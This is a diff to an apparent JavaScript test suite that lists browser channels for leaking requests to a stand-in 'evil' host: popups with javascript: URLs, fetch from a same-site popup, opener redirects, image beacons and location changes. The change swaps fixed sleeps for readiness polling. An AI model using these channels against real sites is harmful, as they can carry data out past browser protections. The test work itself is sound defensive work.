@@ -184,7 +184,8 @@ export default {
   "a popup with a javascript: URL": ({ evil }) => void open(`javascript:location="${evil}"`),
   "a popup of the site's, once loaded": async ({ own, evil, sleep }) => {
     const w = open(`${own}/plain`);
-    await sleep(600);
+    while (!w.document.querySelector("#p") || w.document.readyState !== "complete") await sleep(50);
+    await sleep(100);
     return w.fetch(evil, { mode: "no-cors" });
   },
   "a popup's opener": ({ script, evil }) => open("").document.write(script(`opener.location = "${evil}"`)),
@@ -309,12 +310,14 @@ export default {
   },
   "a popup of the site's, once loaded, its image": async ({ own, evil, sleep }) => {
     const w = open(`${own}/plain`);
-    await sleep(600);
+    while (!w.document.querySelector("#p") || w.document.readyState !== "complete") await sleep(50);
+    await sleep(100);
     new w.Image().src = evil;
   },
   "a popup of the site's, once loaded, goes there": async ({ own, evil, sleep }) => {
     const w = open(`${own}/plain`);
-    await sleep(600);
+    while (!w.document.querySelector("#p") || w.document.readyState !== "complete") await sleep(50);
+    await sleep(100);
     w.location = evil;
   },
 };
